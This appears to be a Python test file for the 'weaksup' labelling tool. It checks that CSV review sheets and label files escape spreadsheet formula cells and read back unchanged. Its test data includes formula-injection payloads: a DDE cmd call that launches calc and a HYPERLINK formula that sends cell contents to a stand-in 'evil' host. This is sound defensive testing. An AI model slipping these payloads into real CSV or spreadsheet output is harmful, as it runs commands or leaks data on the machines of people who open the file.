"""CSV files meant for people never hold a cell a spreadsheet would run as a formula (issue 14, case 17).

The review sheet (``weaksup review export --format csv``), a gold set's CSV label file and the labels CSV of a
run give every text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a CR a leading single quote (the
OWASP rule); numbers stay numbers; weaksup reads back exactly what it wrote (:mod:`weaksup.spreadsheet`).
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pytest

from tests.pipeline_project import make_project, write_config
from weaksup.cli import main
from weaksup.gold import content_hash, load_gold
from weaksup.labels import LabelSpace
from weaksup.review import export_queue, import_answers, read_sheet

SPACE = ["ham", "spam"]
HOSTILE = ["=cmd|' /C calc'!A0", "@x", "+1", "-2+3", '=HYPERLINK("http://evil/?"&A1,"click")', "\t=1+1", "\r=1",
           "'=already quoted"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _cells(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def _formula_cells(path: Path) -> list[str]:
    return [cell for row in _cells(path)[1:] for cell in row if cell.startswith(TRIGGERS)]


def test_the_escape_is_the_owasp_rule_and_reversible():
    from weaksup.spreadsheet import escape_cell, escape_formulas, unescape_formulas

    frame = pd.DataFrame({"text": [*HOSTILE, "fine", "'tis", "a=b", None],
                          "score": [-1.5, 2.0, 3.0, -4.0, 5.0, 6.0, 7.0, 8.0, 9.0, 10.0, 11.0, 12.0]})
    out = escape_formulas(frame)
    assert not any(str(v).startswith(TRIGGERS) for v in out["text"].dropna())
    assert out["text"].tolist()[:3] == ["'=cmd|' /C calc'!A0", "'@x", "'+1"]
    assert out["text"].tolist()[8:11] == ["fine", "'tis", "a=b"]  # other cells unchanged
    assert out["score"].dtype == frame["score"].dtype and out["score"].tolist() == frame["score"].tolist()
    assert unescape_formulas(out).equals(frame)
    table = pa.Table.from_pandas(frame, preserve_index=False)
    assert escape_formulas(table).column("text").to_pylist()[:11] == out["text"].tolist()[:11]
    assert unescape_formulas(escape_formulas(table)).equals(table)
    assert escape_cell(-1) == -1 and escape_cell("-1") == "'-1"


def _queue() -> pd.DataFrame:
    n = len(HOSTILE)
    return pd.DataFrame({"priority": range(1, n + 1), "row_id": [f"-id{i}" if i % 2 else f"id{i}" for i in range(n)],
                         "text": HOSTILE, "label": "spam", "confidence": 0.5, "review_reason": "low_confidence",
                         "author": ["@mallory"] * n})


def test_review_sheet_escapes_formulas_and_reads_back_what_it_wrote(tmp_path):
    queue = _queue()
    out = export_queue(queue, tmp_path / "review.csv", format="csv", label_space=SPACE, fields=["author"])
    assert _formula_cells(out.path) == []
    rows = _cells(out.path)
    assert rows[1][1] == "'=cmd|' /C calc'!A0" and rows[1][8] == "'@mallory"
    # the reviewer fills in the sheet in a spreadsheet and names themself like a formula
    sheet = pd.read_csv(out.path, dtype=str, keep_default_na=False)
    sheet["label"] = "ham"
    sheet["annotator"] = "'=HYPERLINK(\"http://evil\")"  # what the spreadsheet saves for typed text
    sheet.to_csv(tmp_path / "filled.csv", index=False, quoting=csv.QUOTE_ALL)  # as a spreadsheet saves it
    answers = read_sheet(tmp_path / "filled.csv", SPACE)
    assert answers.frame["row_id"].tolist() == queue["row_id"].tolist()  # ids come back exactly
    assert set(answers.frame["annotator"]) == {'=HYPERLINK("http://evil")'}
    raw = export_queue(queue, tmp_path / "raw.csv", format="csv", label_space=SPACE, escape_formulas=False)
    assert _formula_cells(raw.path)  # escaping can be turned off


def test_a_gold_set_imported_from_such_a_sheet_stores_no_formula_in_its_csv(tmp_path):
    queue = _queue()
    out = export_queue(queue, tmp_path / "review.csv", format="csv", label_space=SPACE)
    sheet = pd.read_csv(out.path, dtype=str, keep_default_na=False)
    sheet["label"], sheet["annotator"] = "spam", "'=cmd|' /C calc'!A0"
    sheet.to_csv(tmp_path / "filled.csv", index=False, quoting=csv.QUOTE_ALL)
    result = import_answers(read_sheet(tmp_path / "filled.csv", SPACE), tmp_path / "gold", task="t",
                            label_space=SPACE)
    manifest = json.loads((tmp_path / "gold" / "manifest.json").read_text())
    label_file = tmp_path / "gold" / manifest["files"][0]
    assert _formula_cells(label_file) == []
    gold = load_gold(tmp_path / "gold")
    # the gold set holds the raw answers: ids match the data, the hash does not depend on the escape
    assert sorted(gold.frame["row_id"]) == sorted(queue["row_id"])
    assert set(gold.frame["annotator"]) == {"=cmd|' /C calc'!A0"}
    assert gold.hash == result.gold.hash == content_hash(gold.frame, LabelSpace(SPACE), "t")


def test_an_unescaped_gold_file_written_by_hand_reads_as_before(tmp_path):
    folder = tmp_path / "g"
    folder.mkdir()
    (folder / "labels.csv").write_text("row_id,label,split\n'-a,ham,dev\n-b,spam,test\n")
    (folder / "manifest.json").write_text(json.dumps({"task": "t", "version": 1, "label_space": SPACE,
                                                      "files": ["labels.csv"]}))
    assert load_gold(folder).frame["row_id"].tolist() == ["'-a", "-b"]


@pytest.fixture
def hostile_project(tmp_path, monkeypatch):
    root = tmp_path / "project"
    root.mkdir()
    texts = [*HOSTILE[:5], "subscribe to my channel", "love this song", "check out my page"] * 3
    ids = [("=id" if i % 3 == 0 else "-id" if i % 3 == 1 else "id") + str(i) for i in range(len(texts))]
    make_project(root, pd.DataFrame({"row_id": ids, "text": texts}))
    monkeypatch.chdir(root)
    return root, ids


def _cli(capsys, *argv: str) -> None:
    try:
        main(list(argv))
    except SystemExit as exc:
        assert exc.code in (0, None), capsys.readouterr().err


def test_review_export_through_the_cli_writes_escaped_cells(hostile_project, capsys):
    root, ids = hostile_project
    config = write_config(root, output={"path": "out/labels.parquet", "report": False})
    _cli(capsys, "run", str(config), "--no-progress")
    _cli(capsys, "review", "export", "out", "--format", "csv")
    sheet = root / "out" / "review" / "review.csv"
    assert _formula_cells(sheet) == []
    assert set(read_sheet(sheet, SPACE).frame["row_id"]) <= set(ids)


def test_the_labels_csv_of_a_run_escapes_formulas_and_load_run_reads_them_back(hostile_project, capsys):
    from weaksup.pipeline import load_run

    root, ids = hostile_project
    config = write_config(root, output={"path": "out/labels.csv", "report": False})
    _cli(capsys, "run", str(config), "--no-progress")
    assert _formula_cells(root / "out" / "labels.csv") == []
    assert load_run(root / "out").labels["row_id"].tolist() == ids
